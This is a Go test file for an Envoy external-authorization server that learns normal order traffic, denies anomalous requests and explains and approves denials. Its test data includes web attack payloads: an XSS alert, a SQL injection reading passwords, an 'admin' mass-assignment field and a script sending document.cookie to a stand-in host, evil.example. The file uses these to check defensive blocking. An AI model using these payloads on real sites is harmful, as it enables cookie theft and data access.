@@ -1,0 +1,197 @@
+package server
+
+import (
+	"encoding/json"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
+	accesslogdatav3 "github.com/envoyproxy/go-control-plane/envoy/data/accesslog/v3"
+	accesslogv3 "github.com/envoyproxy/go-control-plane/envoy/service/accesslog/v3"
+	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/codes"
+	"google.golang.org/protobuf/types/known/structpb"
+	"google.golang.org/protobuf/types/known/wrapperspb"
+
+	"postern/server/admin"
+)
+
+// traffic is a proxy that checks calls and logs how they ended.
+type traffic struct {
+	c   *grpc.ClientConn
+	log accesslogv3.AccessLogService_StreamAccessLogsClient
+}
+
+func (r *running) traffic(t *testing.T) *traffic {
+	t.Helper()
+	c := r.dial(t)
+	log, err := accesslogv3.NewAccessLogServiceClient(c).StreamAccessLogs(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &traffic{c, log}
+}
+
+// call checks one call and logs its end with a status; it returns the answer and the decision id.
+func (f *traffic) call(t *testing.T, q *authv3.CheckRequest, status uint32) (allowed bool, id string) {
+	t.Helper()
+	answer := check(t, f.c, q)
+	id = answer.GetDynamicMetadata().GetFields()["decision_id"].GetStringValue()
+	metadata, err := structpb.NewStruct(map[string]any{"decision_id": id})
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = f.log.Send(&accesslogv3.StreamAccessLogsMessage{LogEntries: &accesslogv3.StreamAccessLogsMessage_HttpLogs{HttpLogs: &accesslogv3.StreamAccessLogsMessage_HTTPAccessLogEntries{
+		LogEntry: []*accesslogdatav3.HTTPAccessLogEntry{{
+			CommonProperties: &accesslogdatav3.AccessLogCommon{Metadata: &corev3.Metadata{FilterMetadata: map[string]*structpb.Struct{"envoy.filters.http.ext_authz": metadata}}},
+			Response:         &accesslogdatav3.HTTPResponseProperties{ResponseCode: wrapperspb.UInt32(status)},
+		}}}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return answer.GetStatus().GetCode() == int32(codes.OK), id
+}
+
+// order is an ordinary order; no two are alike.
+func order(i int) *authv3.CheckRequest {
+	names := []string{"Ada", "Grace", "Edsger", "Barbara", "Donald", "Frances", "Tony", "Leslie"}
+	return request("POST", "/orders", fmt.Sprintf(`{"item":"sku-%04d","amount":%d,"name":"%s %s","note":"please ring twice %04d"}`, i*37%10000, i%9+1, names[i%8], names[i/8%8], i))
+}
+
+// learned is a server that has learned n orders at a rate that so many can hold.
+func learned(t *testing.T, n int, environ ...string) (*running, *traffic) {
+	t.Helper()
+	r := start(t, append([]string{"POSTERN_FALSE_DENY_RATE=0.02"}, environ...)...)
+	f := r.traffic(t)
+	for i := range n {
+		if ok, _ := f.call(t, order(i), 200); !ok {
+			t.Fatalf("order %d was denied in shadow", i)
+		}
+	}
+	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(20 * time.Millisecond) {
+		out, _, _ := r.postern(t, "profile", "show", "-json", "shop/orders")
+		var c admin.Callee
+		if json.Unmarshal([]byte(out), &c) == nil && len(c.Operations) == 1 && c.Operations[0].Calls == int64(n) {
+			return r, f
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("%d orders are not learned: %s", n, out)
+		}
+	}
+}
+
+// odd is an order that is not ordinary, in each of several ways.
+func odd(i int) *authv3.CheckRequest {
+	bodies := []string{
+		`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"please ring twice 0001","admin":true}`,
+		`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"<script>alert(document.cookie)</script>"}`,
+		`{"item":"` + strings.Repeat("x", 4000) + `","amount":1,"name":"Ada Grace","note":"please ring twice 0001"}`,
+		`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"1' or '1'='1' union select password from users -- "}`,
+	}
+	return request("POST", "/orders", bodies[i%len(bodies)])
+}
+
+func TestFromFirstTrafficToAnExplainedDenialAndItsApproval(t *testing.T) {
+	r, f := learned(t, 400)
+	if out, stderr, code := r.postern(t, "profile", "mode", "-callee", "shop/orders", "enforce"); code != 0 || !strings.Contains(out, "400 calls, of which enforce would have denied 0") {
+		t.Fatalf("enforce: %d %s %s", code, out, stderr)
+	}
+	var ids []string
+	for i := range 4 {
+		ok, id := f.call(t, odd(i), 200)
+		if ok {
+			t.Errorf("odd %d was allowed", i)
+		}
+		ids = append(ids, id)
+	}
+	for i := range 20 {
+		if ok, id := f.call(t, order(1000+i), 200); !ok {
+			out, _, _ := r.postern(t, "explain", id)
+			t.Errorf("an ordinary order was denied: %s", out)
+		}
+	}
+	e := explained(t, r, ids[1])
+	if len(e.Allow) == 0 || !strings.HasPrefix(e.Allow[0], "postern profile approve -callee shop/orders -caller shop/web -operation 'POST /orders' -field 'body|json.note' -class xss -value ") {
+		t.Fatalf("%+v", e)
+	}
+	for _, command := range e.Allow {
+		if out, stderr, code := r.postern(t, words(t, command)...); code != 0 {
+			t.Fatalf("%s: %s %s", command, out, stderr)
+		}
+	}
+	for i := range 4 { // exactly this one is let through, at once
+		if ok, _ := f.call(t, odd(i), 500); ok != (i == 1) {
+			t.Errorf("after the approval, odd %d: allowed %v", i, ok)
+		}
+	}
+	another := request("POST", "/orders", `{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"<script>fetch('//evil.example/'+document.cookie)</script>"}`)
+	if ok, _ := f.call(t, another, 200); ok {
+		t.Error("another script in the same field was allowed too")
+	}
+	if out, _, _ := r.postern(t, "profile", "log"); !strings.Contains(out, `"do":"approve"`) || !strings.Contains(out, "local") {
+		t.Errorf("log: %s", out)
+	}
+	out, _, _ := r.postern(t, "explain", ids[1])
+	for _, want := range []string{"attack/xss", "body|json.note", "shop/web → shop/orders", "to allow exactly this", "body|json\n"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("explain lacks %q: %s", want, out)
+		}
+	}
+}
+
+// words splits a command as a shell does, without its first word. Quotes hold no quotes here.
+func words(t *testing.T, command string) (list []string) {
+	t.Helper()
+	for i, part := range strings.Split(strings.TrimPrefix(command, "postern "), "'") {
+		if i%2 == 1 {
+			list = append(list, part)
+		} else {
+			list = append(list, strings.Fields(part)...)
+		}
+	}
+	return list
+}
+
+func explained(t *testing.T, r *running, id string) (e admin.Explanation) {
+	t.Helper()
+	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
+		out, stderr, code := r.postern(t, "explain", "-json", id)
+		if code == 0 {
+			if err := json.Unmarshal([]byte(out), &e); err != nil {
+				t.Fatal(err)
+			}
+			return e
+		}
+		if time.Now().After(deadline) {
+			t.Fatal(stderr)
+		}
+	}
+}
+
+func TestGateStopsWhatIsImmatureAndWhatIsTooTight(t *testing.T) {
+	young := start(t, "POSTERN_FALSE_DENY_RATE=0.02")
+	if out, stderr, code := young.postern(t, "profile", "mode", "-callee", "shop/orders", "enforce"); code != 1 || !strings.Contains(stderr, "mature") {
+		t.Errorf("nothing was learned: %d %s %s", code, out, stderr)
+	}
+	if out, stderr, code := young.postern(t, "profile", "mode", "-callee", "shop/orders", "-force", "enforce"); code != 0 {
+		t.Errorf("forced: %d %s %s", code, out, stderr)
+	}
+	r, f := learned(t, 400)
+	for i := range 60 { // a part of the ordinary calls is as the profile has never seen
+		f.call(t, odd(i), 200)
+	}
+	explainable := func() (out, stderr string, code int) {
+		for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+			if listed, _, _ := r.postern(t, "denials", "-verdict", "would-deny", "-limit", "100"); strings.Count(listed, "\n") >= 60 {
+				break
+			}
+		}
+		return r.postern(t, "profile", "mode", "-callee", "shop/orders", "enforce")
+	}
+	if out, stderr, code := explainable(); code != 1 || !strings.Contains(stderr, "more than the asked") || !strings.Contains(out, "shop/orders POST /orders: 60 of 460") {
+		t.Errorf("too tight: %d %s %s", code, out, stderr)
+	}
+}
